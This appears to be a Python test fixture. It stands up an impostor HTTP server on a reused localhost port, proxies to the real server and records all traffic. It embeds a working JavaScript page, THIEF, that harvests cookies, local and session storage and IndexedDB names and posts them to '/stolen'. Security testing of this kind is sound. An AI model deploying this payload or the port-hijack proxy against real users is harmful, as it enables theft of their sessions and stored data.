"""Another program that listens where the page's server did, and takes note of all that it gets."""

from __future__ import annotations

import contextlib
import http.client
import http.server
import threading
import time
from typing import Any

# A page that tells its server all that a page of this address can get hold of.
THIEF = b"""<!doctype html><title>stolen</title><script>
const all = (kept) => Object.fromEntries(Array.from({ length: kept.length }, (_, place) =>
  [kept.key(place), kept.getItem(kept.key(place))]));
const found = { address: location.href, local: all(localStorage), session: all(sessionStorage),
  cookie: document.cookie };
indexedDB.databases().then((all) => { found.databases = all.map((one) => one.name);
  return fetch("/stolen", { method: "POST", body: JSON.stringify(found) }); })
  .then(() => { document.title = "done"; });
</script>"""


class Stranger(http.server.ThreadingHTTPServer):
    """Answers as it likes, or (with `behind`) as the true server does at another address."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, port: int, behind: int | None = None) -> None:
        for attempt in range(100):  # the port was somebody else's a moment ago
            try:
                super().__init__(("127.0.0.1", port), _Answers)
                break
            except OSError:
                if attempt == 99:
                    raise
                time.sleep(0.1)
        self.behind = behind
        self.got: list[tuple[str, str, dict[str, str], bytes]] = []
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def text(self) -> str:
        """All that it got."""
        return repr(self.got)

    def paths(self) -> set[str]:
        return {path.partition("?")[0] for _, path, _, _ in self.got}

    def close(self) -> None:
        self.shutdown()
        self.server_close()


class _Answers(http.server.BaseHTTPRequestHandler):
    server: Stranger

    def _take(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        headers = dict(self.headers.items())
        self.server.got.append((self.command, self.path, headers, body))
        status, kind, told = 200, "application/json", b'{"moment": "a.1", "proofs": ["", "0"]}'
        if self.server.behind is not None:
            status, kind, told = self._fetch(headers, body)
        elif self.path == "/":
            kind, told = "text/html", THIEF
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(told)))
        self.end_headers()
        self.wfile.write(told)

    def _fetch(self, headers: dict[str, str], body: bytes) -> tuple[int, str, bytes]:
        """Pass it on to the true server, as if it had been meant for that."""
        to = f"127.0.0.1:{self.server.behind}"
        headers = {name: value for name, value in headers.items() if name != "Connection"}
        headers |= {"Host": to} | ({"Origin": f"http://{to}"} if "Origin" in headers else {})
        with contextlib.closing(http.client.HTTPConnection(to, timeout=20)) as connection:
            connection.request(self.command, self.path, body or None, headers)
            answer = connection.getresponse()
            return answer.status, str(answer.headers["Content-Type"]), answer.read()

    do_GET = do_POST = _take

    def log_message(self, *_: Any) -> None:
        pass
